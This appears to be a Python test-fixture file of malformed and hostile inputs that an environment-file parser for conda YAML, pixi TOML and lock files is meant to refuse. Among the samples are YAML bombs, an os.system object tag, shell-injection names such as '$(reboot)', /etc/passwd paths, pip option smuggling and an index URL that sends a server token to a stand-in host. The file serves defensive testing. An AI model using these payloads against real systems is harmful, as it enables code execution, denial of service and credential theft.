"""Environment files that nobody should have to read: bombs, odd bytes, odd shapes, odd names. Plain defence."""

from __future__ import annotations

MEGABYTE = 1_000_000
HEAD = "name: x\ndependencies:\n  - python\n"


def _doubling(anchor: str = "a", levels: int = 30) -> str:
    lines = [f"{anchor}0: &{anchor}0 [x]"]
    lines += [f"{anchor}{n}: &{anchor}{n} [*{anchor}{n - 1}, *{anchor}{n - 1}]" for n in range(1, levels)]
    return HEAD + "\n".join(lines) + "\n"


def _merging(levels: int = 13) -> str:
    lines = ["a0: &a0 {x: 1}"]
    lines += [f"a{n}: &a{n} {{<<: [" + ", ".join([f"*a{n - 1}"] * 8) + "]}" for n in range(1, levels)]
    return HEAD + "\n".join(lines) + "\n"


def _filled(piece: str, head: str = "", tail: str = "") -> str:
    return head + piece * ((MEGABYTE - len(head) - len(tail)) // len(piece)) + tail


def _dependency(text: str) -> str:
    return f"name: x\ndependencies:\n  - {text}\n"


REFUSED: dict[str, str | bytes] = {
    # bombs
    "doubling aliases": _doubling(),
    "merge keys on merge keys": _merging(),
    "an anchor": HEAD + "k: &a 1\n",
    "an alias to nothing": HEAD + "k: *a\n",
    "an anchor on the document": "&a\n" + HEAD,
    "an alias as key": HEAD + "*a : 1\n",
    "an endless alias": HEAD + "k: &k [*k]\n",
    "a merge key": HEAD + "<<: {channels: [x]}\n",
    "nested lists": HEAD + "k: " + "[" * 20_000 + "]" * 20_000,
    "nested mappings": HEAD + "k: " + "{a: " * 20_000 + "}" * 20_000,
    "nested block lists": "dependencies:\n" + "- " * 50_000 + "a\n",
    "nested block mappings": HEAD + "".join(" " * n + f"k{n}:\n" for n in range(500)),
    "brackets without end": _filled("["),
    "braces without end": _filled("{"),
    "nine levels": HEAD + "k: [[[[[[[[[a]]]]]]]]]\n",
    "five megabytes": HEAD + "#" * 5 * MEGABYTE,
    "five megabytes of bytes": HEAD.encode() + b"#" * 5 * MEGABYTE,
    "question marks": _filled("? "),
    "colons": _filled(": "),
    "a list of empty keys": _filled("? a\n"),
    "a quote without end": _filled("a", '"'),
    "many anchors": _filled("- &a b\n"),
    "many documents": _filled("---\n"),
    "many directives": _filled("%YAML 1.1\n"),
    "many keys": "".join(f"k{n}: 1\n" for n in range(90_000)),
    "a million commas": _filled(",", "dependencies: [", "]"),
    # tags
    "a python object": HEAD + "k: !!python/object/apply:os.system [id]\n",
    "a python name": HEAD + "k: !!python/name:os.system\n",
    "a python tuple": "channels: !!python/tuple [a]\ndependencies: [b]\n",
    "a binary": HEAD + "k: !!binary aGVsbG8=\n",
    "an integer tag": "name: !!int 3\ndependencies: [a]\n",
    "a local tag": HEAD + "k: !include /etc/passwd\n",
    "a lone tag": HEAD + "k: ! x\n",
    "a tag on a list": "dependencies: !!set {a}\n",
    "a tag directive": "%TAG ! tag:example.org,2000:\n---\n" + HEAD,
    "a tag on a key": "!!str name: x\ndependencies: [a]\n",
    # bytes
    "a NUL": "name: x\0y\ndependencies: [a]\n",
    "a NUL in bytes": b"name: x\0y\ndependencies: [a]\n",
    "a control character": "name: x\x07\ndependencies: [a]\n",
    "an escaped NUL in a spec": _dependency('"a\\0b"'),
    "an escaped newline in a pip line": 'dependencies: [{pip: ["a\\n--target /x"]}]\n',
    "latin-1": "name: caf\xe9\n".encode("latin-1"),
    "a broken UTF-8 sequence": b"name: \xc3\x28\ndependencies: [a]\n",
    "an overlong UTF-8 sequence": b"name: \xc0\xaf\ndependencies: [a]\n",
    "half a UTF-16 character": b"\xff\xfen\0a",
    "a lone surrogate": "name: \ud800\ndependencies: [a]\n",
    "UTF-32": HEAD.encode("utf-32"),
    "gzip": b"\x1f\x8b\x08\0\0\0\0\0\0\3" + bytes(range(256)),
    "random bytes": bytes((n * 73 + 41) % 256 for n in range(4096)),
    # shapes
    "nothing": "",
    "a list": "- a\n- b\n",
    "a text": "hello",
    "JSON null": "null",
    "a second document": HEAD + "---\n" + HEAD,
    "a repeated key": HEAD + "dependencies:\n  - evil\n",
    "a repeated key below": "variables: {A: b, A: c}\ndependencies: []\n",
    "a quoted repeated key": HEAD + '"name": y\n',
    "a list as key": HEAD + "? [a]\n: b\n",
    "a mapping as key": HEAD + "? {a: b}\n: c\n",
    "no key": HEAD + ": b\n",
    "a tab": "dependencies:\n\t- a\n",
    "channels as text": "channels: x\n" + HEAD,
    "a channel as mapping": "channels: [{a: b}]\n" + HEAD,
    "dependencies as text": "dependencies: python\n",
    "dependencies as mapping": "dependencies: {python: 3}\n",
    "a dependency as list": "dependencies: [[a]]\n",
    "variables as list": HEAD + "variables: [A]\n",
    "a variable as mapping": HEAD + "variables: {A: {B: c}}\n",
    "a variable with a wrong name": HEAD + "variables: {'A;reboot': c}\n",
    "a name as list": "name: [a]\ndependencies: []\n",
    "a Helm chart": "apiVersion: v2\nname: x\ndependencies:\n  - name: y\n    version: '1'\n",
    "a docker compose file": "services:\n  web:\n    image: x\n",
    # names
    "a shell command": _dependency("'$(reboot)'"),
    "a shell command behind": _dependency("'a; reboot'"),
    "a backquote": _dependency("'`reboot`'"),
    "a parent folder": _dependency("../../etc/passwd"),
    "an absolute path": _dependency("/etc/passwd"),
    "an option": _dependency("--channel=evil"),
    "markup": _dependency("'<script>alert(1)</script>'"),
    "a long name": _dependency("a" * 900_000 + " b c d"),
    "many operators": _dependency("'a " + "=" * 400_000 + "'"),
    "many brackets": _dependency("'a" + "[" * 400_000 + "]'"),
    "many commas": _dependency("'a >=1" + "," * 400_000 + "'"),
    "many spaces": _dependency("'a" + " " * 400_000 + "b c d'"),
    "a pip target": "dependencies: [{pip: ['--target=/tmp/x a']}]\n",
    "a pip prefix": "dependencies: [{pip: ['--prefix /tmp/x']}]\n",
    "a pip root": "dependencies: [{pip: ['--root /']}]\n",
    "a pip python": "dependencies: [{pip: ['--python /bin/sh']}]\n",
    "a pip build option": "dependencies: [{pip: ['--config-settings=a=b']}]\n",
    "a pip global option": "dependencies: [{pip: ['--global-option=x']}]\n",
    "a server variable": "dependencies: [{pip: ['--index-url http://h.example.org/${JUPYTERHUB_API_TOKEN}/']}]\n",
    "an option without value": "dependencies: [{pip: ['-r']}]\n",
    "a pip option and many spaces": "dependencies: [{pip: ['-e" + " " * 400_000 + "x --target /']}]\n",
    "many pip options": "dependencies: [{pip: ['" + "--pre " * 100_000 + "--target /']}]\n",
    "a pip option by another name": "dependencies: [{pip: ['--requirment=x']}]\n",
}

_WORKSPACE = "[workspace]\nchannels = []\nplatforms = []\n"

TOML: dict[str, str | bytes] = {
    "nested lists": _WORKSPACE + "x = " + "[" * 20_000 + "]" * 20_000,
    "nested lists over lines": _WORKSPACE + "x = " + "[\n" * 20_000 + "]\n" * 20_000,
    "nested tables": _WORKSPACE + "x = " + "{a = " * 700 + "1" + "}" * 700,
    "a dotted key": _WORKSPACE + "a." * 450_000 + "a = 1\n",
    "many dotted keys": _WORKSPACE + "".join("a." * 490 + f"b{n} = 1\n" for n in range(950)),
    "a deep header": _WORKSPACE + "[" + "a." * 490 + "a]\n",
    "nine levels": _WORKSPACE + "x = [[[[[[[[[1]]]]]]]]]\n",
    "a text without end": _filled("a\n", _WORKSPACE + 'x = """'),
    "a megabyte of digits": _WORKSPACE + "x = " + "9" * 900_000,
    "many lines of digits": _WORKSPACE + "x = [\n" + ("9" * 990 + ",\n") * 200 + "]\n",
    "brackets without end": _filled("[", _WORKSPACE),
    "many tables": _filled("[a]\n", _WORKSPACE),
    "many keys": _WORKSPACE + "".join(f"k{n} = 1\n" for n in range(60_000)),
    "many headers": _WORKSPACE + "".join(f"[t{n}]\na = 1\n" for n in range(50_000)),
    "a repeated key": _WORKSPACE + "platforms = []\n",
    "five megabytes": _WORKSPACE + "#\n" * (5 * MEGABYTE // 2),
    "many empty lines and an error": _WORKSPACE + "\n" * 900_000 + "x\n",
    "many spaces": _WORKSPACE + (" " * 990 + "x\n") * 900,
    "a NUL": _WORKSPACE + "x = 'a\0'\n",
    "latin-1": _WORKSPACE.encode() + "x = 'caf\xe9'\n".encode("latin-1"),
    "random bytes": bytes((n * 73 + 41) % 256 for n in range(4096)),
    "a channel of a wrong kind": "[workspace]\nchannels = [1979-05-27]\n",
    "channels as text": "[workspace]\nchannels = 'x'\n",
    "a workspace as list": "workspace = [1]\n",
    "a name as number": "[workspace]\nname = 3\n",
    "a control character in a name": '[workspace]\nname = "a\\u0007b"\n',
    "a shell command": _WORKSPACE + "[dependencies]\n'$(reboot)' = '*'\n",
    "a shell command as version": _WORKSPACE + "[dependencies]\na = '; reboot'\n",
    "a pip option as version": _WORKSPACE + "[pypi-dependencies]\na = '>=1 --target /'\n",
    "a pip option as address": _WORKSPACE + "[pypi-options]\nindex-url = 'https://${TOKEN}/'\n",
    "a newline in an address": _WORKSPACE + '[pypi-options]\nindex-url = "https://x/\\n--target /"\n',
}

_LOCK = "version: 6\nenvironments:\n  default:\n    channels: []\n    packages: {}\npackages:\n"

PIXI_LOCKS: dict[str, str] = {
    "many anchors": _LOCK + "- &a b\n" * 100_000,
    "doubling aliases": _LOCK + "- x\n" + _doubling(),
    "nested lists": _LOCK + "- " + "[" * 20_000 + "]" * 20_000,
    "thirty megabytes": _LOCK + "# a\n" * 7_500_000,
    "a tag": _LOCK + "- !!python/name:os.system\n",
    "no package": _LOCK + "- {}\n" * 10_000,
    "a package that is none": _LOCK + "- conda: /etc/passwd\n",
    "a channel that is a mapping": _LOCK.replace("channels: []", "channels: {a: b}") + "- x\n",
    "a version that is none": _LOCK.replace("version: 6", "version: [6]"),
    "a NUL": _LOCK + "- \0\n",
}

ACCEPTED: dict[str, str | bytes] = {
    "a megabyte of comment": _filled("# a\n", HEAD),
    "many packages": _filled("  - python\n", "dependencies:\n"),
    "many pip lines": _filled("    - a==1\n", "dependencies:\n  - pip:\n"),
    "a long text": _filled("a ", "dependencies: []\nname: 'x", "'"),
    "many variables": "dependencies: []\nvariables:\n" + "".join(f"  V{n}: x\n" for n in range(60_000)),
    "an unknown key with anything in it": HEAD + "k: {a: [b, {c: d}]}\n",
}
